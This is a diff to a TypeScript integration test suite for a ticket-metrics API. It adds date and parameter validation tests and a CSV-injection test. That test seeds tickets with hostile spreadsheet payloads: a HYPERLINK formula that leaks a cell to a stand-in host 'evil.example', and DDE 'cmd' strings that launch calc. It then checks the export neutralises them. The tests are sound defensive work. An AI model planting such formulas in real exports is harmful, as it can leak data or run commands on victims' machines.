@@ -6,7 +6,9 @@ import request from 'supertest';
 import { reportCommand } from '../../src/cli/report-command';
 import { loadConfig } from '../../src/config';
 import { startParcelCare, type RunningParcelCare } from '../../src/index';
+import { parse } from 'csv-parse/sync';
 import { loadWeek } from '../contract/metrics.contract';
+import { sampleTicket } from '../contract/store.contract';
 import { TestClock } from '../support/test-clock';
 
 const SUPERVISOR = ['carol', 'carol-pass-1'] as const;
@@ -64,6 +66,46 @@ describe('supervisor KPIs over HTTP, CSV export and the weekly report (real serv
     expect((await get('/api/metrics?from=2020-01-01&to=2026-11-10').expect(400)).body.error).toMatch(/366 days/);
     expect((await get('/api/metrics?channel=fax').expect(400)).body.error).toMatch(/^channel/);
     expect((await get('/api/metrics/tickets.csv?category=broken').expect(400)).body.error).toMatch(/^category/);
+  });
+
+  it.each([
+    ['from=2026-13-45', 'from: "2026-13-45" is not a date (YYYY-MM-DD) or an ISO time'],
+    ['from=2026-02-30', 'from: "2026-02-30" is not a date (YYYY-MM-DD) or an ISO time'],
+    ['to=2026-02-29', 'to: "2026-02-29" is not a date (YYYY-MM-DD) or an ISO time'],
+    ['to=2026-04-31T10:00:00Z', 'to: "2026-04-31T10:00:00Z" is not a date (YYYY-MM-DD) or an ISO time'],
+    ['from=2026-11-01T25:00:00Z', 'from: "2026-11-01T25:00:00Z" is not a date (YYYY-MM-DD) or an ISO time'],
+    ['from=0000-01-01', 'from: "0000-01-01" is not a date (YYYY-MM-DD) or an ISO time'],
+    ['from=2026-11-01&from=2026-11-02', 'from: give it once, as a single value'],
+    ['channel[]=sms', 'channel[]: not a known parameter'],
+    ['limit=5', 'limit: not a known parameter'],
+  ])('answers ?%s with 400 naming the parameter, on the KPIs and the CSV alike', async (query, error) => {
+    expect((await get(`/api/metrics?${query}`).expect(400)).body).toEqual({ error });
+    expect((await get(`/api/metrics/tickets.csv?${query}`).expect(400)).body).toEqual({ error });
+  });
+
+  it('exports customer text that looks like a formula as plain text cells (OWASP CSV injection rule)', async () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1,"点我查看")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    for (const [i, description] of hostile.entries())
+      await app.store.tickets.create(
+        sampleTicket({ createdAt: `2026-11-18T0${i}:30:00.000Z`, description, station: i === 0 ? '=cmd' : '站' }),
+      );
+    const res = await get('/api/metrics/tickets.csv?from=2026-11-16&to=2026-11-22').expect(200);
+    // Read the cells back as a spreadsheet does: unquote, then any cell starting with = + - @ is a formula.
+    const rows = parse(res.text.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
+    const cells = rows.flatMap((row) => Object.values(row));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    const descriptions = rows.map((r) => r.description);
+    for (const text of hostile) expect(descriptions).toContain(`'${text}`);
+    expect(rows.map((r) => r.station)).toContain("'=cmd");
+    // Ordinary text and ISO times are untouched.
+    expect(rows[0]?.createdAt).toMatch(/^2026-11-\d\dT/);
   });
 
   it('exports the range’s tickets as CSV, one row each, with a header', async () => {
